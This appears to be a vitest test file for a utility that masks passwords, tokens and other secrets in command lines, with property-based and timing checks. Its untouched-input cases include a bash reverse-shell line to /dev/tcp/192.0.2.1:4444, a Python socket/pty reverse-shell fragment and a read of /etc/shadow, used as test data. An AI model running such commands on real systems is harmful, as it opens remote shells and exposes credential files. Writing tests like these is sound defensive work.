import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { maskedCommandLine } from './mask-secrets.ts';

const masked: [string[], string][] = [
  [['app', '--password=hunter2'], 'app --password=***'],
  [['app', '--password', 'hunter2', '-v'], 'app --password *** -v'],
  [['app', '--db-password=x y'], 'app --db-password=*** y'],
  [['app', '-token', 'abc'], 'app -token ***'],
  [['app', '--api-key=abc', '--api_key', 'abc'], 'app --api-key=*** --api_key ***'],
  [['app', '--client-secret=abc'], 'app --client-secret=***'],
  [['mysql', '-uroot', '-phunter2', 'shop'], 'mysql -uroot -p*** shop'],
  [['/usr/bin/mysqldump', '-phunter2'], '/usr/bin/mysqldump -p***'],
  [['mysql', '-p', 'shop'], 'mysql -p shop'],
  [['sshpass', '-p', 'hunter2', 'ssh', 'a@b'], 'sshpass -p *** ssh a@b'],
  [['sshpass', '-phunter2', 'ssh', 'a@b'], 'sshpass -p*** ssh a@b'],
  [['redis-cli', '-a', 'hunter2'], 'redis-cli -a ***'],
  [['ldapsearch', '-D', 'cn=a', '-w', 'hunter2'], 'ldapsearch -D cn=a -w ***'],
  [['curl', '-u', 'me:hunter2', 'https://example.com'], 'curl -u me:*** https://example.com'],
  [['curl', '-ume:hunter2'], 'curl -ume:***'],
  [['curl', '--user', 'me:hunter2'], 'curl --user me:***'],
  [['smbclient', '-U', 'DOM/me%hunter2'], 'smbclient -U DOM/me%***'],
  [['curl', 'https://me:hunter2@example.com/a'], 'curl https://me:***@example.com/a'],
  [['curl', 'https://example.com/a?token=abc&page=2'], 'curl https://example.com/a?token=***&page=2'],
  [['curl', 'https://example.com/?X-Amz-Signature=abc'], 'curl https://example.com/?X-Amz-Signature=***'],
  [['curl', '-H', 'Authorization: Bearer abc.def'], 'curl -H Authorization: Bearer ***'],
  [['env', 'PGPASSWORD=hunter2', 'psql'], 'env PGPASSWORD=*** psql'],
  [['env', 'AWS_SECRET_ACCESS_KEY=abc', 'GITHUB_TOKEN=abc', 'x'], 'env AWS_SECRET_ACCESS_KEY=*** GITHUB_TOKEN=*** x'],
  [['psql', 'host=db password=hunter2 user=a'], 'psql host=db password=*** user=a'],
  [['openssl', 'rsa', '-passin', 'pass:hunter2'], 'openssl rsa -passin ***'],
  [['sh', '-c', 'mysql -u root -phunter2 shop | gzip'], 'sh -c mysql -u root -p*** shop | gzip'],
  [['sh', '-c', 'sshpass -p hunter2 ssh a@b'], 'sh -c sshpass -p *** ssh a@b'],
  [['sh', '-c', `PASSWORD='a b' run`], 'sh -c PASSWORD=*** run'],
  [['curl', '-d', '{"password":"hunter2","user":"a"}'], 'curl -d {"password":***,"user":"a"}'],
  [['x', 'eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abcdef'], 'x ***'],
  [['x', 'ghp_0123456789abcdefghij'], 'x ***'],
];

const untouched: string[][] = [
  ['ls', '-la', '/etc/passwd'],
  ['cat', '/etc/shadow'],
  ['app', '--password-file=/run/secrets/db'],
  ['app', '--token-path', '/run/token'],
  ['ps', '-p', '123'],
  ['ssh', '-p', '2222', 'a@example.com'],
  ['nginx', '-p', '/srv'],
  ['passwd', 'alice'],
  ['tar', '-cf', 'pass.tar', 'keys'],
  ['bash', '-i', '>&', '/dev/tcp/192.0.2.1/4444', '0>&1'],
  ['python3', '-c', 'import socket,os,pty;s=socket.socket()'],
  ['curl', '-o', '/tmp/a:b', 'https://example.com:8443/x'],
  ['mysqld', '--port=3306'],
  ['constructor', '__proto__'], // a program may be called anything
];

describe('maskedCommandLine', () => {
  it.each(masked)('masks %j', (words, expected) => {
    expect(maskedCommandLine(words)).toBe(expected);
  });

  it.each(untouched.map((words) => ({ words })))('leaves $words as it is', ({ words }) => {
    expect(maskedCommandLine(words)).toBe(words.join(' '));
  });

  it('never throws, and is quick whatever the words are', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 200 }), { maxLength: 20 }), (words) => {
        maskedCommandLine(words);
      }),
    );
    for (const piece of [
      '-',
      'a',
      'pass',
      '-pass',
      'token=',
      'a://',
      'a:b',
      'eyJa-',
      'mysql ',
      '"',
      `password="`,
      'pass:',
      ' -p',
    ]) {
      const hostile = piece.repeat(16_384 / piece.length);
      const started = performance.now();
      maskedCommandLine(['x', hostile, `${hostile}!`]);
      expect(performance.now() - started, piece).toBeLessThan(1000);
    }
  });
});
